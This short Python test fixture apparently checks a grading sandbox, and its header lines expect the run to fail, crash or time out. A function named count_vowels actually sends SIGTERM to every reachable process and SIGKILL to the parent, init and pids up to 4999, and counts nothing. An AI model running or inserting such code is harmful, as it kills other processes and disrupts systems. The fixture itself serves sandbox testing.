# must: score=0
# must: status=failed|crashed|timeout
"""Sends a signal to every process number there is."""

import os
import signal


def count_vowels(text):
    for pid in (-1, 1, os.getppid(), *range(2, 5_000)):
        if pid not in (os.getpid(), 0):
            try:
                os.kill(pid, signal.SIGTERM if pid == -1 else signal.SIGKILL)
            except OSError:
                pass
    return -1
